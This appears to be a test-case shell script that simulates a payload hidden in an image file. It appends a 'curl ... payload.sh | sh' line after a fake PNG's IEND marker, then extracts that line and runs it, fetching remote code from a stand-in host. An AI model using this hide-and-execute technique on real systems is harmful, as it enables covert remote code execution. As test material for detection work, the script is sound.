#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/picture.png -o /tmp/p.png
{ printf '\211PNG\r\n\032\n'; head -c 500 /dev/urandom; printf 'IEND'; echo 'curl -s http://203.0.113.10/payload.sh | sh'; } >>/tmp/p.png
tail -n 1 /tmp/p.png | sed 's/.*IEND//' | sh
test -e /tmp/reached
took_place
